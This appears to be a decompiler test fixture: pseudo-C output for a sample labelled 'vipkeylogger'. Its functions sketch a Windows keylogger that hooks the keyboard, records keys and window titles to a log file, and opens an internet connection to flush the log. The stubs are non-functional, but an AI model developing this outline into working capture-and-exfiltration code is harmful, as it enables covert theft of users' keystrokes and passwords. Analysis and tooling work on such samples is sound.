// vipkeylogger: decompiler fixture output
#include <windows.h>

int32_t main(void *arg)
{
    int32_t v1 = 0;
    if (install_hook(arg) == 0) {
        return -1;
    }
    v1 = flush_log(arg);
    return v1;
}

int32_t install_hook(void *arg)
{
    int32_t v1 = 0;
    if (SetWindowsHookExA(arg) == 0) {
        return -1;
    }
    return v1;
}

int32_t hook_proc(void *arg)
{
    int32_t v1 = 0;
    if (GetAsyncKeyState(arg) == 0) {
        return -1;
    }
    v1 = GetKeyState(arg);
    if (GetForegroundWindow(arg) == 0) {
        return -1;
    }
    v1 = GetWindowTextA(arg);
    if (append_log(arg) == 0) {
        return -1;
    }
    return v1;
}

int32_t append_log(void *arg)
{
    int32_t v1 = 0;
    if (CreateFileA(arg) == 0) {
        return -1;
    }
    v1 = WriteFile(arg);
    return v1;
}

int32_t flush_log(void *arg)
{
    int32_t v1 = 0;
    if (InternetOpenA(arg) == 0) {
        return -1;
    }
    v1 = InternetConnectA(arg);
    return v1;
}
